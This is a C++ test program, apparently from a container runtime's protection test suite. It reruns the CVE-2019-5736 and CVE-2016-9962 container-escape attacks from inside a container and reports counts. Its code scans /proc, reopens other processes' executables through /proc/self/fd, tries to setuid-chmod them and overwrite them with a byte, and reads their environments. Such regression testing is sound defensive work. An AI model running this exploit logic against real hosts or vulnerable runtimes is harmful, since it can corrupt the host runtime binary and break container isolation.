// SPDX-License-Identifier: MIT
// attack: looks, until there is a file /tmp/stop, for processes of other programs than
// this one and busybox, and tries to write to their programs, as CVE-2019-5736 did, and
// to look into them, as CVE-2016-9962. Linked statically; protection_test.cpp starts it
// in containers, and what it may hit is a copy of the runtime's program.
//
// It says: refused=N (programs that couldn't even be opened), reached=N (that could be),
// full=N (those in which there was anything), mapped=N (processes that had a file named
// zoomin in their memory), won=N (written to), looked=N (environments read), and the
// answers to a change of its mode and to a write. For all processes: mighty=N (had a
// capability that this one hasn't), elsewhere=N (had another root directory), more=N (of
// another program, with descriptors beyond its first four).
#include <dirent.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

#include "common/names.hpp"

namespace {

struct tally {
  int refused = 0;
  int reached = 0;
  int full = 0;
  int mapped = 0;
  int won = 0;
  int looked = 0;
  int mighty = 0;
  int elsewhere = 0;
  int more = 0;
  std::string change = "none", write = "none";
} seen;

bool same_file(const struct stat& info, const char* path) {
  struct stat other {};
  return ::stat(path, &other) == 0 && info.st_dev == other.st_dev &&
         info.st_ino == other.st_ino;
}

std::string answer(long result) {
  if (result == -1) return zoomin::error_name(errno);
  ++seen.won;
  return "ok";
}

long write_a_byte(const std::string& path) {
  const int program = ::open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (program < 0) return -1;
  const auto wrote = ::write(program, "x", 1);
  const int number = errno;
  ::close(program);
  errno = number;
  return wrote;
}

void write_to(int program) {
  const std::string path = "/proc/self/fd/" + std::to_string(program);
  if (::chmod(path.c_str(), 04777) == 0)
    seen.change = "ok";
  else
    seen.change = zoomin::error_name(errno);
  seen.write = answer(write_a_byte(path));
}

// In a neighbour it is another file, of the size that ours has.
bool is_busybox(const struct stat& info) {
  struct stat ours {};
  return ::stat("/bin/busybox", &ours) == 0 && info.st_size == ours.st_size;
}

bool maps_program(const std::string& process) {
  std::ifstream lines(process + "/maps");
  for (std::string line; std::getline(lines, line);)
    if (line.ends_with("/zoomin")) return true;
  return false;
}

void look_into(const std::string& process) {
  const int environment = ::open((process + "/environ").c_str(), O_RDONLY | O_CLOEXEC);
  if (environment < 0) return;
  char character = 0;
  const bool got = ::read(environment, &character, 1) > 0;
  ::close(environment);
  // Not where it became the command meanwhile, whose environment is the container's.
  const int program = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
  if (program >= 0) ::close(program);
  if (got && program < 0 && errno != ENOENT && errno != ESRCH) ++seen.looked;
}

unsigned long long capabilities_of(const std::string& process) {
  std::ifstream lines(process + "/status");
  for (std::string line; std::getline(lines, line);)
    if (line.starts_with("CapPrm:")) return std::stoull(line.substr(7), nullptr, 16);
  return 0;
}

int descriptors_of(const std::string& process) {
  DIR* result = ::opendir((process + "/fd").c_str());
  if (result == nullptr) return 0;
  int count = 0;
  while (const dirent* found = ::readdir(result))
    if (std::atoi(found->d_name) > 3) ++count;
  ::closedir(result);
  return count;
}

void compare(const std::string& process) {
  static const auto ours = capabilities_of("/proc/self");
  if ((capabilities_of(process) & ~ours) != 0) ++seen.mighty;
  struct stat root {};
  if (::stat((process + "/root").c_str(), &root) == 0 && !same_file(root, "/"))
    ++seen.elsewhere;
}

void try_one(const std::string& process) {
  compare(process);
  const int program = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
  if (program < 0) {
    if (errno != EACCES && errno != EPERM) return;  // it has ended
    ++seen.refused;
    return look_into(process);
  }
  struct stat info {};
  ::fstat(program, &info);
  if (!same_file(info, "/proc/self/exe") && !is_busybox(info)) {
    ++seen.reached;
    if (info.st_size > 0) ++seen.full;
    if (maps_program(process)) ++seen.mapped;
    if (descriptors_of(process) > 0) ++seen.more;
    write_to(program);
  }
  ::close(program);
}

void try_all() {
  DIR* processes = ::opendir("/proc");
  while (const dirent* found = ::readdir(processes))
    if (found->d_name[0] >= '1' && found->d_name[0] <= '9')
      try_one(std::string("/proc/") + found->d_name);
  ::closedir(processes);
}

}  // namespace

int main() {
  std::printf("ready\n");
  std::fflush(stdout);
  while (::access("/tmp/stop", F_OK) != 0) try_all();
  std::printf(
      "refused=%d\nreached=%d\nfull=%d\nmapped=%d\nwon=%d\nlooked=%d\nchange=%s\n"
      "write=%s\n"
      "mighty=%d\nelsewhere=%d\nmore=%d\n",
      seen.refused, seen.reached, seen.full, seen.mapped, seen.won, seen.looked,
      seen.change.c_str(), seen.write.c_str(), seen.mighty, seen.elsewhere, seen.more);
  return 0;
}
